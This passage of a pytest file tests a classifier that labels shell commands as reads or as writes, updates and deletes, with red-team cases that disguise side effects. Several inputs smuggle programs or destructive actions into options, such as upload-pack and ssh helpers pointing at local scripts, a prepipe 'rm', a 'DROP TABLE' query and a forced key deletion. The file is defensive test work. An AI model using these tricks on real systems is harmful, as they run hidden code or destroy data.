    ("gpg-connect-agent 'KEYINFO --list' 'DELETE_KEY --force ABCDEF0123' /bye", "UPDATE"),
    ("echo 'show info; disable server be/s1' | socat stdio /run/haproxy/admin.sock", "UPDATE"),
    ("echo 'stats reset' | nc localhost 11211", "UPDATE"),
    ("echo 'show info' | socat stdio UNIX-CONNECT:/run/haproxy/admin.sock,unlink-early", "UPDATE"),
    ("grpcurl -plaintext localhost:50051 kv.KV/GetAndDelete", "UPDATE"),
    # curl's progress bar in a cluster
    ("curl -#O https://example.com/f", "CREATE"), ("curl -#o out.bin https://example.com/f", "CREATE"),
])
def test_what_a_reading_form_hides(command: str, crud: str) -> None:
    """Red-team holes of session 19: each of these looked like a read."""
    assert klass(command)[0] == crud, command
    for line in ("http https://api.example.com/items", "http GET https://x < q.json",
                 "kcat -b k:9092 -C -t orders", "certbot renew --dry-run", "sfdisk -l /dev/sda",
                 "gpg-connect-agent 'getinfo version' /bye", "echo 'show info' | socat stdio "
                 "/run/haproxy/admin.sock", "echo stats | nc localhost 11211", "curl -#L https://x"):
        assert klass(line) == ("READ", False), line


@pytest.mark.parametrize(("command", "crud"), [
    # a dry run that still runs what it is given, or a dry-run word that is a value
    ("git fetch --upload-pack=./x.sh --dry-run origin", "UPDATE"),
    ("git -c core.hooksPath=.githooks push --dry-run", "UPDATE"),
    ("git config --global alias.dry --dry-run", "UPDATE"), ("git config alias.n -n", "UPDATE"),
    ("helm install x ./chart --dry-run=client --dry-run=false", "CREATE"),
    ("zpool reopen -n tank", "UPDATE"),
    # options that name a program, a config or a trace file
    ("hg incoming --ssh ./x.sh ssh://host/repo", "UPDATE"), ("svn diff --diff-cmd ./x.sh", "UPDATE"),
    ("jj diff --tool ./x.sh", "UPDATE"), ("fossil diff --command ./x.sh", "UPDATE"),
    ("git -c trace2.eventTarget=/tmp/ev.json status", "CREATE"),
    ("ssh -vE ssh.log host uptime", "CREATE"), ("curl --expand-output out.txt https://x", "CREATE"),
    # `-` as a file name
    ("ls > -", "CREATE"), ("ls | tee -", "CREATE"), ("cp a -", "CREATE"), ("dd if=a of=-", "CREATE"),
    ("scp host:/var/log/syslog -", "CREATE"), ("aws s3api get-object --bucket b --key k -", "CREATE"),
    # a reading form that writes beside its output
    ("tar -cf - src -g snap.snar", "CREATE"), ("tar -cOf out.tar src", "CREATE"),
    ("xz --files=list.txt", "UPDATE"), ("unzip -lT a.zip", "UPDATE"),
    ("ffmpeg -i in.mp4 -vf vidstabdetect -f null -", "CREATE"), ("sox in.wav -n spectrogram", "CREATE"),
    ("exiftool -textOut txt a.jpg", "CREATE"), ("identify ephemeral:upload.png", "DELETE"),
    # a command or SQL inside an option
    ("mlr --prepipe 'rm x' --csv cat f.csv", "DELETE"),
    ("sql2csv --db sqlite:///app.db --query 'DROP TABLE t'", "DELETE"),
    ("sqlite3 db.db 'pragma user_version(3)'", "UPDATE"),
    ("az vm run-command invoke -g g -n v --command-id RunShellScript --scripts ls reboot", "UPDATE"),
    # abbreviations and spellings a parser takes
    ("wget -qO- --meth=DELETE https://x.com", "DELETE"), ("http Delete https://x.com", "DELETE"),
    ("date --se=2024-01-01", "UPDATE"),
])
def test_what_a_reading_form_hides_session_20(command: str, crud: str) -> None:
    """Red-team holes of session 20: each of these looked like a read."""
    assert klass(command)[0] == crud, command
    for line in ("git push --dry-run origin main", "git clean -n", "zpool create -n tank mirror sdb sdc",
                 "hg incoming --ssh 'ssh -i ~/.ssh/id_ed25519'", "jj diff --tool difft",
                 "aws s3 cp s3://b/k -", "tar -xOf app.tar config.yaml", "sox in.wav -n stat",
                 "sqlite3 db.db 'pragma table_info(users)'", "mlr --prepipe gunzip --csv cat f.csv.gz",
                 "ffmpeg -i in.mp4 -af volumedetect -f null /dev/null", "http GET example.org"):
        assert klass(line) == ("READ", False), line
